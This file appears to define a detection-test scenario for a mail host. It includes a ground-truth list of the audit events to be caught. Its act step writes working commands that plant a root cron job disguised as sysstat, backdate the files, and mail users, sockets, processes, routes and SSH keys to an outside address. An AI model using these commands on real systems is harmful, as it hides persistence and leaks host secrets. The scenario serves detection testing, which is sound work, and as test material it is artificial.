title="A job named like sysstat's mails a survey of the host to a box outside; commands and the mail log only"
what="With the rights of ops somebody adds /usr/lib/sysstat/sa3 and /etc/cron.d/sysstat-report: users, listening sockets, processes, routes, known_hosts and authorized_keys of everybody, gzip, uuencode, mail to metrics@example.com. It runs twice. The host's own df report goes to root, cron mails its own output."
host=mx1.example.org user=root daemons="cron sshd" audit_rules=audit-exec.rules
people="ops nils aino eero"
aliases='postmaster: root\nroot: ops\ninfo: aino\nabuse: root\n'
setup() {
  echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  printf '#!/bin/sh\ndf -h | mail -s "disk $(hostname)" root\n' > /opt/df-report; chmod 755 /opt/df-report
  printf 'HOME=/\n* * * * * root /opt/df-report\n' > /etc/cron.d/df-report
  private /usr/lib/sysstat
  mkdir -p /home/nils/.ssh; echo 'host1.example.net ssh-ed25519 AAAA' > /home/nils/.ssh/known_hosts; chown -R nils: /home/nils/.ssh
}
act() {
  small_talk 3
  ssh_as ops <<'L'
uptime
printf '#!/bin/sh\n(getent passwd; ss -tlnp; ps axo user,args; ip route; cat /home/*/.ssh/known_hosts /home/*/.ssh/authorized_keys) 2>/dev/null | gzip -9 | uuencode sa.gz | mail -s "sa $(hostname)" metrics@example.com\n' | sudo tee /usr/lib/sysstat/sa3 >/dev/null
sudo chmod 755 /usr/lib/sysstat/sa3
printf 'HOME=/\n* * * * * root /usr/lib/sysstat/sa3\n' | sudo tee /etc/cron.d/sysstat-report >/dev/null
sudo touch -r /etc/hosts /etc/cron.d/sysstat-report /usr/lib/sysstat/sa3
L
  small_talk 1
  wait_log_count 'to=<metrics@example.com>.*status=sent' 2 140
  small_talk 1; sleep 1
}
truth() {
  exec_step job 'sysstat/sa3' 'the job'
  exec_step read 'cat /home/.*known_hosts' 'it reads keys and known hosts'
  exec_step encode 'uuencode sa.gz' 'encodes'
  exec_step mail 'mail.* metrics@example.com' 'and mails'
  mail_step sent 'to=<metrics@example.com>.*status=sent' 'to a box outside'
}
